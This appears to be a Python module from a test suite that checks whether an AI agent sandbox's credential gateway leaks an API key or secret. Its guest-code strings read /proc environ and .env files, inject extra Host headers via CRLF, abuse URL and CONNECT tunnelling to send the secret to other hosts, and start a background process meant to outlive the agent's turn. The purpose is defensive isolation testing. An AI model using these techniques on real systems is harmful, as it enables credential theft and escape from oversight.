"""Probes of credentials: a turn that may use a model's key and a secret through its door tries to get their values.

The first agent of the stage has both, and the canary is the value of both. Their far ends are the stage's far host, a provider
that gives back what it was asked with, and a host that does not speak TLS. A second secret's host has a certificate of this
run, and gives back what it was sent. In the self-test the values lie in the sandbox, as where no gateway keeps them.
"""

from __future__ import annotations

from functools import partial
from typing import Any

from hermes_iso.prove.door_client import CLIENT, WORKS, holder
from hermes_iso.prove.far_host import TRUSTED_HOST
from hermes_iso.prove.probe import BrokenProbeError, Probe, layers
from hermes_iso.prove.probes.env import search_memory
from hermes_iso.prove.provider import ERRORS, REDIRECTS
from hermes_iso.prove.stage import (
    ALLOWED,
    CREDENTIAL_HOST,
    CREDENTIAL_VARIABLE,
    MODEL,
    MODEL_HOST,
    NEIGHBOUR,
    PROVIDER_HOST,
    TRUSTED_VARIABLE,
)
from hermes_iso.prove.trial import Trial, evidence

_CREDENTIAL = layers("credential")
_TLS = "\x16\x03"
"""What the far host remembers before what came by TLS."""
_ASKING = (
    CLIENT
    + r"""
CREDENTIAL = os.environ.get(VARIABLE, '')


def whole(request, where=None):
    '''Return all that comes back for a request, b'' when nothing does.'''
    got = b''
    try:
        with socket.create_connection(where or DOOR, 10) as client:
            client.settimeout(10)
            client.sendall(request.encode('latin-1'))
            while more := client.recv(65536):
                got += more
    except OSError:
        pass
    return got


def wish(what, path='/v1/chat/completions', **more):
    '''Ask the model for an answer that does harm, with what the sandbox has for a key; return all that comes back.'''
    body = json.dumps({'model': MODEL, 'messages': [{'role': 'user', 'content': f'wish-{what} mark-{MARK}-mark'}], **more})
    head = f'POST http://{MODEL_HOST}{path} HTTP/1.1\r\nHost: {MODEL_HOST}\r\nContent-Type: application/json\r\n'
    key = f'Authorization: Bearer {CREDENTIAL or "any"}\r\n'
    return whole(f'{head}{key}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}')


def spend(target, *, host='', line=None, header='Authorization: Bearer {}'):
    '''Send what the sandbox has for a secret in a request; return all that comes back.'''
    line = line or f'GET http://{target}/{MARK}-hole HTTP/1.1'
    return whole(f'{line}\r\nHost: {host or target}\r\n{header.format(CREDENTIAL)}\r\nConnection: close\r\n\r\n')


def telling(data, what):
    '''Report the canary in an answer, plain or as programs write it down; chunks of an answer are put together.'''
    import base64, re
    data = re.sub(rb'\r\n[0-9a-f]+\r\n', b'', data)
    for each in (SECRET.encode(), base64.b64encode(SECRET.encode()), SECRET.encode().hex().encode()):
        if each in data:
            hole(f'{what} told it')
"""
)
"""What guest code finds beside the prelude to use its credentials."""
_MODEL_WORKS = "control(b'fine' in wish('well'), 'the model answers')\n"
_HAS_CREDENTIAL = "control(CREDENTIAL, 'there is something to use a secret with')\n"


async def _ask(trial: Trial, code: str, *, agent: str | None = None, **given: Any) -> list[str]:
    """Run guest code as the holder of the credentials, or another agent; return what it reports and what arrived."""
    trial, stage = holder(trial), trial.stage
    found = await trial.attack(_ASKING + code, agent=agent, **_names(trial), **given)
    arrived = stage.far_host.heard(f"{trial.mark}-hole", stage.secret)
    return found + ["the value arrived with the request"] * arrived


def _names(trial: Trial) -> dict[str, Any]:
    """Return what `_ASKING` needs in scope."""
    host = PROVIDER_HOST if "credential" in trial.stage.layers else MODEL_HOST
    return {
        "VARIABLE": CREDENTIAL_VARIABLE,
        "THERE": CREDENTIAL_HOST,
        "ALLOWED": ALLOWED,
        "MODEL": MODEL,
        "MODEL_HOST": host,
    }


async def _with_model(trial: Trial, code: str, **given: Any) -> str:
    """Run guest code that asks the model, which must have been asked with the key."""
    found = await _ask(trial, _MODEL_WORKS + code, **given)
    if not trial.stage.far_host.heard(f"mark-{trial.mark}-mark", trial.stage.secret):
        raise BrokenProbeError("the provider was not asked with the key")
    return evidence(found)


_LOOK = """
for path in ('/proc/self/environ', '/proc/1/environ', '/hermes/.env', '/hermes/config.yaml'):
    telling(read(path), path)
"""


async def _inside(trial: Trial) -> str:
    """C01: variables, /proc and memory of a turn that has used both."""
    trial = holder(trial)
    use = "wish('error-401'), wish('body'), spend(THERE)\n"
    found = await _with_model(trial, use + _LOOK)
    memory = await search_memory(trial, _ASKING + _MODEL_WORKS + use, **_names(trial))
    return evidence([each for each in (found, memory) if each])


_ERRORS = """
for status in STATUSES:
    said = wish(f'error-{status}')
    control(said.startswith(f'HTTP/1.1 {status} '.encode()), f'the error {status} comes back')
    telling(said, f'the error {status}')
for path in ('/v1/messages', '/v1/models', '/v1/wrong', '/', '/v1/../admin', '/v1/chat/completions?key=1', '/v1/embeddings'):
    telling(wish('error-400', path), path)
for body in ({'model': 'no-such'}, {'stream': 'x'}, {'models': ['x']}, {'messages': 7}):
    telling(wish('error-400', **body), body)
"""
_REDIRECTS = """
for status in STATUSES:
    telling(wish(f'redirect-{status}'), f'the redirect {status}')
"""
_ECHOES = """
for way in ('body', 'head', 'base', 'hex', 'split'):
    telling(wish(way), way)
    telling(wish(way, stream=True), f'{way} as a stream')
"""
_ELSEWHERE = r"""
for header in ('Authorization: Bearer {}', 'authorization: {}', 'X-Api-Key: {}', 'Cookie: a={}', 'Proxy-Connection: {}'):
    control(b'from-far-away' in spend(ALLOWED, header=header), 'the request arrives')
spend(ALLOWED, line=f'GET http://{ALLOWED}/{MARK}-hole?{CREDENTIAL} HTTP/1.1')
for end in ('', ':80', ':8080', '.', ':443', '.:80'):
    spend(THERE + end)
    spend(THERE.upper() + end)
"""
_CONNECT = r"""
for target in (f'{THERE}:443', f'{THERE}:80', f'{THERE.upper()}:443', f'{THERE}.:443', f'{ALLOWED}:80'):
    connect = f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nAuthorization: Bearer {CREDENTIAL}\r\n\r\n'
    inner = f'GET /{MARK}-hole HTTP/1.1\r\nHost: {THERE}\r\nAuthorization: Bearer {CREDENTIAL}\r\n\r\n'
    with socket.create_connection(DOOR, 10) as client:
        client.sendall(connect.encode())
        status = answer(client)
        control(status == 200 or not target.startswith(ALLOWED), 'a tunnel opens')
        if status == 200:
            client.sendall(inner.encode())
            answer(client)
"""
_TRICKS = r"""
control(b'from-far-away' in spend(ALLOWED), 'the request arrives')
for target, host in ((ALLOWED, THERE), (THERE, ALLOWED), (ALLOWED, f'{ALLOWED}\r\nHost: {THERE}'),
                     (f'{THERE}@{ALLOWED}', ALLOWED), (f'{ALLOWED}@{THERE}', ALLOWED),
                     (f'{THERE}%2f@{ALLOWED}', THERE), (f'{ALLOWED}#@{THERE}', THERE),
                     (f'{THERE};{ALLOWED}', THERE), (ALLOWED, f'{ALLOWED}\r\nX-Forwarded-Host: {THERE}')):
    spend(target, host=host)
for path in (f'http://{THERE}//{ALLOWED}/', f'http://{THERE}/http://{ALLOWED}/', '/', f'//{THERE}/',
             f'http://{ALLOWED}/http://{THERE}/', f'https://{THERE}/'):
    for host in (THERE, ALLOWED):
        spend('', host=host, line=f'GET {path}{MARK}-hole HTTP/1.1')
"""
_OTHERS = r"""
CREDENTIAL = CREDENTIAL or f'hermes-iso-secret-{VARIABLE}'
for target in (THERE, THERE + ':443', ALLOWED):
    spend(target)
telling(wish('body'), 'the model')
telling(wish('head'), 'the model')
if b'"object"' in whole(f'GET http://{MODEL_HOST}/v1/models HTTP/1.1\r\nHost: {MODEL_HOST}\r\nConnection: close\r\n\r\n'):
    hole('there is a model host')
"""
_BEHIND = r"""
said = wish('well')
if b'fine' in said: print('hole the model answered a background process', flush=True)
status = get(ALLOWED, 'control')
if status != 200: raise RuntimeError(f'the door of the process answers {status}')
"""


async def _secret(trial: Trial, code: str) -> str:
    """Run guest code that uses the secret; what the far host hears it for must hold no value."""
    found = await _ask(trial, WORKS + _HAS_CREDENTIAL + code)
    if not trial.stage.far_host.heard(f"/{trial.mark}-control"):
        raise BrokenProbeError("the far host did not hear what is allowed")
    return evidence(found)


async def _through_tls(trial: Trial) -> str:
    """C05: the secret's own host must have been tried, and over TLS alone."""
    found = await _secret(trial, _ELSEWHERE)
    if not found and not trial.stage.far_host.heard("\x16\x03", CREDENTIAL_HOST):
        raise BrokenProbeError("the gateway did not try the secret's host over TLS")
    return found


_PRESS = r"""
CREDENTIAL = os.environ.get(TRUSTED_VARIABLE, '')
control(CREDENTIAL, 'there is something to use a secret with')


def press(what='well', *, path='pressed', header='Authorization: Bearer {}', body=''):
    body = f'wish-{what} mark-{MARK}-mark {body}'
    head = f'POST http://{TRUSTED}/{MARK}-{path} HTTP/1.1\r\nHost: {TRUSTED}\r\n{header.format(CREDENTIAL)}\r\n'
    return whole(f'{head}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}')


control(b'fine' in press(), 'the host of the secret answers')
"""
_PRESSED = """
for way in ('body', 'head', 'base', 'hex', 'split', 'error-401', 'error-500'):
    telling(press(way), way)
"""
_LED_ASTRAY = """
for status in STATUSES:
    telling(press(f'redirect-{status}'), f'the redirect {status}')
"""
_MISPLACED = r"""
for header in ('X-Api-Key: {}', 'Cookie: a={}', 'Proxy-Authorization: Bearer {}', 'X-Authorization: Bearer {}',
               'Referer: http://x/{}', 'User-Agent: {}', 'X-A: Authorization: Bearer {}'):
    press(path='astray', header=header)
press(path='astray', header='X-A: 1', body=CREDENTIAL)
press(path=f'astray?{CREDENTIAL}', header='X-A: 1')
press(path=f'astray/{CREDENTIAL}', header='X-A: 1')
"""


async def _over_tls(trial: Trial, code: str, **given: Any) -> str:
    """Run guest code that uses the secret whose host speaks TLS, which must have got the value so, and where it belongs."""
    host = trial.stage.hosts.trusted
    found = await _ask(trial, _PRESS + code, TRUSTED=TRUSTED_HOST, TRUSTED_VARIABLE=TRUSTED_VARIABLE, **given)
    found += ["the value arrived where it was not declared"] * host.heard(f"/{trial.mark}-astray", trial.stage.secret)
    if not found and not host.heard(_TLS, f"/{trial.mark}-pressed", trial.stage.secret):
        raise BrokenProbeError("the secret's host did not get its value over TLS")
    return evidence(found)


async def _neighbour(trial: Trial) -> str:
    """C08: an agent with a door and without credentials uses those of another one."""
    found = await _ask(trial, WORKS + _OTHERS, agent=NEIGHBOUR)
    asked = trial.stage.far_host.heard(f"mark-{trial.mark}-mark")
    return evidence(found + ["the provider was asked"] * asked)


async def _in_background(trial: Trial) -> str:
    """C09: a process that may outlive its turn asks the model of the turn."""
    names = _names(trial)
    begin = "import json, os, socket\n" + "".join(f"{name} = {value!r}\n" for name, value in names.items())
    return evidence(
        await _ask(
            trial, _MODEL_WORKS + "in_command(BEGIN + f'MARK = {MARK!r}\\n' + CODE)", BEGIN=begin, CODE=_ASKING + _BEHIND
        )
    )


PROBES = (
    Probe(
        "C01", "credential", "variables, /proc and memory of a turn that used a model's key and a secret", _inside, _CREDENTIAL
    ),
    Probe(
        "C02",
        "credential",
        "errors of the model host: of a provider that tells the key, wrong paths, bodies and dialects",
        partial(_with_model, code=_ERRORS, STATUSES=ERRORS),
        _CREDENTIAL,
    ),
    Probe(
        "C03",
        "credential",
        "a provider that redirects, with the key in the address",
        partial(_with_model, code=_REDIRECTS, STATUSES=REDIRECTS),
        _CREDENTIAL,
    ),
    Probe(
        "C04",
        "credential",
        "answers of a provider that hold the key: in body, head, base64, hex and over many pieces",
        partial(_with_model, code=_ECHOES),
        _CREDENTIAL,
    ),
    Probe(
        "C05",
        "credential",
        "a secret's placeholder to another host in several headers, and to its own without TLS",
        _through_tls,
        _CREDENTIAL,
    ),
    Probe(
        "C06",
        "credential",
        "a tunnel to a secret's host, with the placeholder in it",
        partial(_secret, code=_CONNECT),
        _CREDENTIAL,
    ),
    Probe(
        "C07",
        "credential",
        "a secret's host in Host, users, paths and addresses of requests to another one",
        partial(_secret, code=_TRICKS),
        _CREDENTIAL,
    ),
    Probe("C08", "credential", "another agent's secret and model host, from an agent with a door", _neighbour, _CREDENTIAL),
    Probe(
        "C09",
        "credential",
        "the model host from a background process, which may outlive its turn",
        _in_background,
        planted="def in_command(code): exec(code, {'print': lambda text, **rest: hole(text)})",
    ),
    Probe(
        "C10",
        "credential",
        "a secret's host that gives the value back over TLS: in body, head, base64, hex, errors and over many pieces",
        partial(_over_tls, code=_PRESSED),
        _CREDENTIAL,
        limit="certificate",
    ),
    Probe(
        "C11",
        "credential",
        "a secret's host that redirects, with the value in the address",
        partial(_over_tls, code=_LED_ASTRAY, STATUSES=REDIRECTS),
        _CREDENTIAL,
        limit="certificate",
    ),
    Probe(
        "C12",
        "credential",
        "a secret's placeholder in other headers, the body and the address of a request to its own host",
        partial(_over_tls, code=_MISPLACED),
        _CREDENTIAL,
        limit="certificate",
    ),
)
